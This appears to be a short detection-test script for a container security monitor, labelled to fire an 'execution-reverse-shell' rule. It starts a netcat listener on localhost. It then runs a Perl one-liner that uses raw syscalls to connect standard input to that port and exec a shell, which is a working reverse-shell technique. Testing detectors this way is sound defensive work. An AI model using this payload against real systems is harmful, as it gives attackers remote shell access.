# in: container
# fires: execution-reverse-shell
# The kernel gives the first number that is free.
nc -l -p 4446 < /dev/null &
sleep 0.3
perl -e 'syscall(3, 0); syscall(41, 2, 1, 262) == 0 or syscall(41, 2, 1, 6) == 0 or die $!;
  my $to = pack("S n C4 x8", 2, 4446, 127, 0, 0, 1); syscall(42, 0, $to, 16) == 0 or die $!; exec "sh"'
